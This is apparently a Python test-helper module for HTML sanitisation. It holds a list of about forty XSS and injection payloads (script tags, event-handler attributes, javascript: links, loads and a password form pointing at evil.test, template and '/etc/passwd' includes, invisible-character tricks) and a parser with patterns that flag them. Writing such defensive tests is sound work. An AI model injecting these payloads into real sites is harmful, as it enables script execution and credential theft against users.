"""What a browser makes of the HTML that the page is built from, and texts that try to be more than text."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = (
    '<script>window.__hacked="1"</script>',
    '<script src="https://evil.test/a.js"></script>',
    "</textarea><script>window.__hacked=1</script>",
    "</title></style><script>window.__hacked=1</script>",
    "<img src=https://evil.test/a.png onerror=window.__hacked=1>",
    "<img src=x onerror=&#119;indow.__hacked=1>",
    '"><svg/onload=window.__hacked=1>',
    "' onmouseover='window.__hacked=1' x='",
    '" autofocus onfocus="window.__hacked=1" x="',
    "<svg><script>window.__hacked=1</script></svg>",
    "<svg><animate onbegin=window.__hacked=1 attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=window.__hacked=1>",
    "<iframe src=javascript:window.__hacked=1></iframe>",
    '<iframe srcdoc="<script>parent.__hacked=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.__hacked=1</script>">',
    "<embed src=https://evil.test/a.swf>",
    '<link rel="stylesheet" href="https://evil.test/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    '<base href="https://evil.test/">',
    '<form action="https://evil.test/"><input name=password>',
    "<details open ontoggle=window.__hacked=1>",
    "<style>@import 'https://evil.test/a.css';</style>",
    '<div style="background:url(https://evil.test/a.png)">',
    "<video><source onerror=window.__hacked=1></video>",
    "<a href=javascript:window.__hacked=1>x</a>",
    "<a href='https://evil.test/'>x</a>",
    "![x](https://evil.test/a.png)",
    "[x](javascript:window.__hacked=1)",
    "[![x](https://evil.test/a.png)](https://evil.test/)",
    "https://evil.test/?a=1&b=2 www.evil.test a@evil.test",
    "&lt;script&gt;window.__hacked=1&lt;/script&gt; &#60;img&#62; &amp;lt;",
    "${window.__hacked=1} {{constructor.constructor('window.__hacked=1')()}} <%= x %>",
    "{% include '/etc/passwd' %} {title} {0.__class__} %(x)s",
    "`code` **bold** __x__ # heading $$x$$ | a | b | ~~~",
    "<!--><script>window.__hacked=1</script-->",
    "<![CDATA[<script>window.__hacked=1</script>]]>",
    "<scr\x00ipt>window.__hacked=1</scr\x00ipt>",
    "\u202etxt.exe\u202c \u2066<b>\u2069 a\u200bb\ufeffc\U000e0041d",
    "＜script＞window.__hacked=1＜/script＞ ‹x›",
    "data-do=retry data-source=/etc/passwd class=pr-send",
)

_TAGS = {
    *(
        "article",
        "aside",
        "div",
        "header",
        "main",
        "nav",
        "section",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "a",
        "b",
        "i",
        "br",
        "strong",
    ),
    *("ol", "ul", "li", "dl", "dt", "dd", "span", "blockquote", "button", "details", "summary", "form", "input"),
    *("label", "textarea", "select", "option", "dialog", "svg", "path"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td"),
}
_ATTRIBUTES = {
    *("class", "id", "lang", "role", "type", "tabindex", "title", "hidden", "scope", "rows", "maxlength", "value"),
    *("selected", "placeholder", "autocomplete", "href", "download", "target", "rel", "style"),
    *("width", "height", "viewbox", "fill", "stroke", "stroke-width", "stroke-linecap", "stroke-linejoin", "d"),
}
_FOREIGN = {"title", "value", "aria-label", "data-text", "data-source", "data-sure"}  # may hold what others wrote
_INVISIBLE = re.compile("[\x00-\x08\x7f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f]")


class Fragment(HTMLParser):
    """The tags, the attributes with all their values, and the text."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: dict[str, list[str]] = {}
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.others: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        for name, value in attrs:
            self.attributes.setdefault(name, []).append(value or "")
        self.text += "\n" if tag == "br" else ""

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def foreign(self) -> list[str]:
        """Whatever is not ours: tags and attributes the page does not use, and values no element of it has."""
        values = [
            f"{name}={value}"
            for name, all_values in self.attributes.items()
            if name not in _FOREIGN
            for value in all_values
            if re.search(r"hacked|evil|script:|passwd", value)
        ]
        names = {each for each in self.attributes if not each.startswith(("data-", "aria-"))} - _ATTRIBUTES
        links = [at for at in self.attributes.get("href", []) if not re.fullmatch(r"#[\w/-]*|/export/[\w.-]+", at)]
        styles = [style for style in self.attributes.get("style", []) if not re.fullmatch(r"width:\d{1,3}%", style)]
        return [*(set(self.tags) - _TAGS), *names, *values, *links, *styles, *self.others]

    def values(self, attribute: str, **having: str) -> list[str]:
        """The values of ``attribute`` in the elements whose other attributes are ``having`` (``_`` for ``-``)."""
        wanted = {name.rstrip("_").replace("_", "-"): value for name, value in having.items()}
        return [
            attributes[attribute]
            for _, attributes in self.elements
            if attribute in attributes and wanted.items() <= attributes.items()
        ]


def visible(text: str) -> str:
    """The characters of ``text`` that a reader sees, with single spaces."""
    return " ".join(_INVISIBLE.sub("", text).split())


def shows(fragment: str, text: str) -> bool:
    """Whether ``text`` can be read in ``fragment``, character by character, and nothing of it is markup."""
    return visible(text) in visible(Fragment(fragment).text)
